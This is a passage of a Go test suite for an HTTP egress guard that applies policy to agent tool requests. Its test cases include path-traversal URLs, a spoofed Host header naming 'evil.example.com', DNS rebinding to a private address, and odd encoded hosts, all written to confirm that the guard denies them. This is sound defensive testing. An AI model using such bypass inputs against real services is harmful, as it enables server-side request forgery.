    effect: allow
`)
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	u := "http://api.example.com:" + srv.port + "/q"
	search := Wrap(g, "search", func(ctx context.Context, q string) (string, error) {
		return egGet(c, ctx, u)
	}, Cooperative())
	ctx := WithPrincipal(context.Background(), Principal{Agent: "bot", Tenant: "acme", Requester: "alice"})

	if out, err := search(ctx, "x"); err != nil || out != "ok" {
		t.Fatalf("search = %q, %v", out, err)
	}
	// Outside a tool, the same request has no caller and is denied.
	_, err := egGet(c, ctx, u)
	egDenied(t, err, CodePolicyDenied, ErrPolicyDenied)

	// A tool of another guard, whose principal comes from that guard's
	// defaults: its requests are made for the same principal.
	g2, err := New(WithPolicy(g.Policy()), WithDefaultPrincipal(Principal{Agent: "bot-2", Tenant: "beta"}))
	if err != nil {
		t.Fatal(err)
	}
	defer g2.Close()
	var inner *Call
	search2 := Wrap(g2, "search", func(ctx context.Context, q string) (string, error) {
		inner, _ = CallFrom(ctx)
		return egGet(c, ctx, u)
	}, Cooperative())
	if out, err := search2(context.Background(), "y"); err != nil || out != "ok" {
		t.Fatalf("search via g2 = %q, %v", out, err)
	}
	last := rec.all()[len(rec.all())-1]
	if p := last.Call.Principal; p.Agent != "bot-2" || p.Tenant != "beta" || last.Call.Args["caller"].(map[string]any)["call"] != inner.ID {
		t.Fatalf("request of g2's tool made for %+v, caller %v", p, last.Call.Args["caller"])
	}

	evs := rec.all()[:5]
	var searchID string
	var httpEvents []Event
	for _, e := range evs {
		switch e.Call.Tool {
		case "search":
			searchID = e.Call.ID
		case "http":
			if e.Kind == EventDecision {
				httpEvents = append(httpEvents, e)
			}
		}
	}
	if len(httpEvents) != 2 {
		t.Fatalf("%d http decisions", len(httpEvents))
	}
	first := httpEvents[0]
	caller := first.Call.Args["caller"].(map[string]any)
	if caller["tool"] != "search" || caller["call"] != searchID || caller["agent"] != "bot" || caller["tenant"] != "acme" || caller["requester"] != "alice" {
		t.Fatalf("caller %v (search call %s)", caller, searchID)
	}
	if p := first.Call.Principal; p.Agent != "bot" || p.Tenant != "acme" || p.Requester != "alice" {
		t.Fatalf("http call principal %+v", p)
	}
	if first.Decision != policy.Allow || httpEvents[1].Decision != policy.Deny {
		t.Fatalf("decisions %v, %v", first.Decision, httpEvents[1].Decision)
	}
}

func TestEgressBadInput(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, "version: 1\ndefault: allow\n")
	res := newEgResolver("api.example.com", "127.0.0.1")
	good := []EgressOption{EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32")}
	base := "http://api.example.com:" + srv.port
	type tc struct {
		name string
		rt   http.RoundTripper
		req  func() *http.Request
		want string // in the denial's reason
	}
	get := func(u string) func() *http.Request {
		return func() *http.Request {
			r, err := http.NewRequest("GET", u, nil)
			if err != nil {
				t.Fatal(err)
			}
			return r
		}
	}
	okRT := Transport(g, nil, good...)
	cases := []tc{
		{"scheme", okRT, get("ftp://api.example.com/x"), "scheme"},
		{"non-ASCII host", okRT, get("http://bücher.example.com:" + srv.port + "/"), "punycode"},
		{"dot segment", okRT, get(base + "/v1/../admin"), "segment"},
		{"encoded dot segment", okRT, get(base + "/v1/%2e%2e/admin"), "segment"},
		{"port", okRT, get("http://api.example.com:99999/"), "port"},
		{"query escape", okRT, get(base + "/?a%zz=1"), "query"},
		{"host header", okRT, func() *http.Request {
			r := get(base + "/")()
			r.Host = "evil.example.com"
			return r
		}, "Host header"},
		{"bad CIDR", Transport(g, nil, append(good, AllowCIDRs("10.0.0.0/33"))...), get(base + "/"), "CIDR"},
		{"nil option", Transport(g, nil, nil), get(base + "/"), "option 0 is nil"},
		{"nil resolver", Transport(g, nil, EgressResolver(nil)), get(base + "/"), "nil resolver"},
		{"bad name", Transport(g, nil, EgressName("no spaces")), get(base + "/"), "tool name"},
		{"foreign base", Transport(g, roundTripFunc(func(*http.Request) (*http.Response, error) {
			t.Error("the foreign base ran")
			return nil, errors.New("no")
		}), good...), get(base + "/"), "not an *http.Transport"},
		{"TLS dialer", Transport(g, &http.Transport{DialTLSContext: func(context.Context, string, string) (net.Conn, error) {
			t.Error("the TLS dialer ran")
			return nil, errors.New("no")
		}}, good...), get("https://api.example.com:" + srv.port + "/"), "DialTLS"},
		{"nil guard", Transport(nil, nil, good...), get(base + "/"), "nil Guard"},
		{"typed nil base", Transport(g, (*http.Transport)(nil), good...), get(base + "/"), "nil *http.Transport"},
	}
	for _, c := range cases {
		before := len(rec.all())
		req := c.req()
		_, err := c.rt.RoundTrip(req)
		var d *DeniedError
		if !errors.As(err, &d) || !errors.Is(err, ErrInvalidCall) || !strings.Contains(d.Reason+" | "+errText(d.Err), c.want) {
			t.Errorf("%s: RoundTrip = %v, want ErrInvalidCall naming %q", c.name, err, c.want)
			continue
		}
		// The model reads a fixed sentence, the detail stays in the cause:
		// the request's fault as such, the program's as a misconfiguration.
		wantReason := "the tool is misconfigured in the program"
		if c.rt == okRT {
			wantReason = "the HTTP request cannot be checked safely"
		}
		if c.name != "nil guard" && !strings.HasPrefix(d.Reason, wantReason) {
			t.Errorf("%s: reason %q", c.name, d.Reason)
		}
		if c.name != "nil guard" && len(rec.all()) != before+1 {
			t.Errorf("%s: the denial was not recorded", c.name)
		}
	}
	if srv.hits.Load() != 0 {
		t.Fatalf("hits %d", srv.hits.Load())
	}
	// The request body is closed on denial.
	body := &closeCounter{Reader: strings.NewReader("x")}
	req, _ := http.NewRequest("POST", "ftp://x/", body)
	if _, err := okRT.RoundTrip(req); err == nil || body.closed.Load() != 1 {
		t.Fatalf("RoundTrip = %v, body closed %d times", err, body.closed.Load())
	}
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

type closeCounter struct {
	io.Reader
	closed atomic.Int64
}

func (c *closeCounter) Close() error { c.closed.Add(1); return nil }

func TestEgressToolOptions(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, `
version: 1
default: deny
rules:
  - name: labelled-egress
    match: call.tool == "net.http" && call.labels.kind == "egress" && call.args.host == "api.example.com"
    effect: allow
`)
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"),
		EgressName("net.http"), EgressToolOptions(Labels("kind", "egress")))
	if body, err := egGet(c, context.Background(), "http://api.example.com:"+srv.port+"/"); err != nil || body != "ok" {
		t.Fatalf("GET = %q, %v", body, err)
	}
	if got, want := rec.trail(), []string{"decision net.http allow", "result net.http ok"}; !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
	// Without the name, the default "http" tool is denied by this policy.
	_, err := egGet(egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32")), context.Background(),
		"http://api.example.com:"+srv.port+"/")
	if d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied); d.Tool != EgressTool {
		t.Fatalf("tool %q", d.Tool)
	}
}

func TestEgressResolverFailures(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, egPolicy)
	u := "http://api.example.com:" + srv.port + "/"
	for name, r := range map[string]func(context.Context, string) ([]netip.Addr, error){
		"error": func(context.Context, string) ([]netip.Addr, error) { return nil, errors.New("SERVFAIL") },
		"empty": func(context.Context, string) ([]netip.Addr, error) { return nil, nil },
		"panic": func(context.Context, string) ([]netip.Addr, error) { panic("resolver bug") },
		"zero":  func(context.Context, string) ([]netip.Addr, error) { return []netip.Addr{{}}, nil },
	} {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
		_, err := egGet(egClient(t, g, EgressResolver(r)), ctx, u)
		cancel()
		if err == nil {
			t.Errorf("%s: request succeeded", name)
		}
	}
	if srv.hits.Load() != 0 {
		t.Fatalf("hits %d", srv.hits.Load())
	}
	for _, e := range rec.all() {
		if e.Kind == EventResult && e.Outcome != OutcomeError {
			t.Errorf("result %s, want error", e.Outcome)
		}
	}
}

// TestEgressDialsCheckedAddress shows that the connection goes to the
// address the resolver gave and the check passed: a name under .invalid
// never resolves through the system, and the resolver is asked once.
func TestEgressDialsCheckedAddress(t *testing.T) {
	srv := newEgServer(t, okHandler)
	g, _ := egGuard(t, "version: 1\ndefault: allow\n")
	res := newEgResolver("rebind.invalid", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	body, err := egGet(c, context.Background(), "http://rebind.invalid:"+srv.port+"/")
	if err != nil || body != "ok" || srv.hits.Load() != 1 {
		t.Fatalf("GET = %q, %v (hits %d)", body, err, srv.hits.Load())
	}
	if q := res.queries(); !slices.Equal(q, []string{"rebind.invalid"}) {
		t.Fatalf("resolver asked %q, want once", q)
	}

	// A name re-bound to a private address between two connections: the
	// second connection is checked against its own answer and refused.
	var lookups atomic.Int64
	rebind := func(context.Context, string) ([]netip.Addr, error) {
		if lookups.Add(1) == 1 {
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		}
		return []netip.Addr{netip.MustParseAddr("10.0.0.1")}, nil
	}
	rc := egClient(t, g, EgressResolver(rebind), AllowCIDRs("127.0.0.1/32"))
	for i := range 2 {
		req := mustReq(t, context.Background(), "http://rebind.invalid:"+srv.port+"/")
		req.Close = true // a new connection each time
		resp, err := rc.Do(req)
		if i == 0 {
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			continue
		}
		if d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied); d.Stage != StageEgress || !strings.Contains(d.Reason, "10.0.0.1, a private address") {
			t.Fatalf("denial %+v", d)
		}
	}
	if srv.hits.Load() != 2 || lookups.Load() != 2 {
		t.Fatalf("hits %d, lookups %d", srv.hits.Load(), lookups.Load())
	}
}

func TestEgressConcurrent(t *testing.T) {
	egNoLeaks(t)
	srv := newEgServer(t, okHandler)
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1", "evil.example.com", "127.0.0.1", "internal.example.com", "10.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	const n = 30
	var wg sync.WaitGroup
	var ok, denied atomic.Int64
	for i := range n {
		wg.Go(func() {
			host := "api.example.com"
			if i%3 == 1 {
				host = "evil.example.com"
			}
			body, err := egGet(c, context.Background(), "http://"+host+":"+srv.port+"/")
			switch {
			case err == nil && body == "ok":
				ok.Add(1)
			case errors.Is(err, ErrPolicyDenied):
				denied.Add(1)
			default:
				t.Errorf("GET %s: %q, %v", host, body, err)
			}
		})
	}
	wg.Wait()
	if ok.Load() != 20 || denied.Load() != 10 || srv.hits.Load() != 20 {
		t.Fatalf("ok %d denied %d hits %d", ok.Load(), denied.Load(), srv.hits.Load())
	}
	var allows, denies, results int
	for _, e := range rec.all() {
		switch {
		case e.Kind == EventDecision && e.Decision == policy.Allow:
			allows++
		case e.Kind == EventDecision:
			denies++
		case e.Kind == EventResult && e.Outcome == OutcomeOK:
			results++
		}
	}
	if allows != 20 || denies != 10 || results != 20 {
		t.Fatalf("events: %d allows, %d denies, %d ok results", allows, denies, results)
	}
}

// FuzzEgressArgs checks the description of odd URLs: it never panics,
// never shows the userinfo, and a description without error is
// normalised.
func FuzzEgressArgs(f *testing.F) {
	for _, s := range []string{
		"http://api.example.com/v1?q=1", "https://API.Example.COM.:8443/x/../y", "http://[::1]:80/",
		"http://[fe80::1%25eth0]/", "http://a..b/", "http://%41.example.com/", "HTTP://h:0/", "http://h:65536/",
		"http://h/?a&b=&&c=%zz", "mailto:x@y", "http://h/%2e%2E/", "http://ü.example/", "http://1.2.3.4.:9/",
		"http://EVIL%EF%BC%8ECOM/", "http://[0:0::1]/", "http://[::FFFF:10.0.0.1]/",
	} {
		f.Add(s, "")
		f.Add(s, "other.example.com:80")
	}
	f.Fuzz(func(t *testing.T, raw, hostHeader string) {
		req, err := http.NewRequest("GET", raw, nil)
		if err != nil {
			return
		}
		req.URL.User = url.UserPassword("qzuserqz", "qzpassqz")
		req.Host = hostHeader
		args, err := egressArgs(req)
		js, jerr := json.Marshal(args)
		if jerr != nil {
			t.Fatalf("args do not encode: %v", jerr)
		}
		text := string(js) + errText(err)
		if !strings.Contains(strings.ToLower(raw), "qz") && strings.Contains(text, "qz") {
			t.Fatalf("userinfo in %s", text)
		}
		if err != nil {
			return
		}
		host := args["host"].(string)
		if host == "" || host != strings.ToLower(host) || strings.HasSuffix(host, ".") || strings.ContainsAny(host, "[]") {
			t.Fatalf("host %q of %q", host, raw)
		}
		// Egress reads the host as the policy helpers (and so the HTTP
		// client) do: a rule on urlHost or hostMatch sees the same host.
		if ph, perr := policy.URLHost(raw); perr != nil || ph != host {
			t.Fatalf("egress host %q of %q, but urlHost reads %q (%v)", host, raw, ph, perr)
		}
		if p := args["port"].(int64); p < 1 || p > 65535 {
			t.Fatalf("port %d of %q", p, raw)
		}
		if s := args["scheme"]; s != "http" && s != "https" {
			t.Fatalf("scheme %v of %q", s, raw)
		}
		if hasDotSegment(args["path"].(string)) {
			t.Fatalf("path %q of %q", args["path"], raw)
		}
		if !slices.IsSorted(args["query"].([]string)) || !slices.IsSorted(args["headers"].([]string)) {
			t.Fatalf("unsorted keys in %s", js)
		}
	})
}

func TestEgressTLS(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, r.Proto)
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(srv.Listener.Addr().String())
	g, rec := egGuard(t, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1")
	// The server's certificate is valid for *.example.com; its client
	// trusts it. The guarded transport clones that client's transport.
	base := srv.Client().Transport.(*http.Transport)
	c := &http.Client{Transport: Transport(g, base, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))}
	defer c.CloseIdleConnections()
	for _, h := range []string{"api.example.com", "API.Example.com."} {
		body, err := egGet(c, context.Background(), "https://"+h+":"+port+"/tls")
		if err != nil || !strings.HasPrefix(body, "HTTP/") {
			t.Fatalf("GET via %s = %q, %v", h, body, err)
		}
	}
	if e := rec.all()[0]; e.Call.Args["scheme"] != "https" || e.Call.Args["port"] != int64(mustPort(t, port)) {
		t.Fatalf("args %v", e.Call.Args)
	}

	// Refused address over TLS: the denial comes through the TLS dial path.
	strict := &http.Client{Transport: Transport(g, base, EgressResolver(res.resolve))}
	defer strict.CloseIdleConnections()
	_, err := egGet(strict, context.Background(), "https://api.example.com:"+port+"/tls")
	if d := egDenied(t, err, CodePolicyDenied, ErrPolicyDenied); d.Stage != StageEgress {
		t.Fatalf("stage %s", d.Stage)
	}
	if hits.Load() != 2 {
		t.Fatalf("hits %d, want 2", hits.Load())
	}
}

// TestEgressSwitchProtocols checks that the body of a 101 response stays
// writable, and that the kill switch stops writes too.
func TestEgressSwitchProtocols(t *testing.T) {
	egNoLeaks(t)
	srv := newEgServer(t, func(w http.ResponseWriter, r *http.Request) {
		conn, brw, err := w.(http.Hijacker).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer conn.Close()
		brw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n")
		brw.Flush()
		buf := make([]byte, 64)
		for {
			n, err := brw.Read(buf)
			if err != nil {
				return
			}
			conn.Write(buf[:n])
		}
	})
	sw := killswitch.New(killswitch.Options{})
	g, rec := egGuard(t, egPolicy, WithKillSwitch(sw))
	res := newEgResolver("api.example.com", "127.0.0.1")
	c := egClient(t, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	req := mustReq(t, context.Background(), "http://api.example.com:"+srv.port+"/echo")
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "echo")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols {
		t.Fatalf("status %d", resp.StatusCode)
	}
	rw, ok := resp.Body.(io.ReadWriteCloser)
	if !ok {
		t.Fatalf("the body of a 101 response (%T) is not writable", resp.Body)
	}
	if _, err := rw.Write([]byte("ping")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 4)
	if _, err := io.ReadFull(rw, buf); err != nil || string(buf) != "ping" {
		t.Fatalf("echo %q, %v", buf, err)
	}
	if err := sw.Trip(killswitch.Scope{}, "ops", "stop"); err != nil {
		t.Fatal(err)
	}
	if _, err := rw.Write([]byte("more")); !errors.Is(err, ErrHalted) {
		t.Fatalf("write after the trip = %v, want ErrHalted", err)
	}
	rw.Close()
	if got, want := rec.trail(), []string{"decision http allow", "result http halted"}; !slices.Equal(got, want) {
		t.Fatalf("trail %q, want %q", got, want)
	}
}

// BenchmarkEgress compares a request through the guarded transport with
// the same request through a plain one, to a loopback server.
func BenchmarkEgress(b *testing.B) {
	srv := newEgServer(b, okHandler)
	g, _ := egGuard(b, egPolicy)
	res := newEgResolver("api.example.com", "127.0.0.1")
	guarded := egClient(b, g, EgressResolver(res.resolve), AllowCIDRs("127.0.0.1/32"))
	plain := &http.Client{Transport: http.DefaultTransport.(*http.Transport).Clone()}
	b.Cleanup(plain.CloseIdleConnections)
	for _, bc := range []struct {
		name string
		c    *http.Client
		url  string
	}{
		{"plain", plain, srv.URL + "/"},
		{"guarded", guarded, "http://api.example.com:" + srv.port + "/"},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			ctx := context.Background()
			for b.Loop() {
				if _, err := egGet(bc.c, ctx, bc.url); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
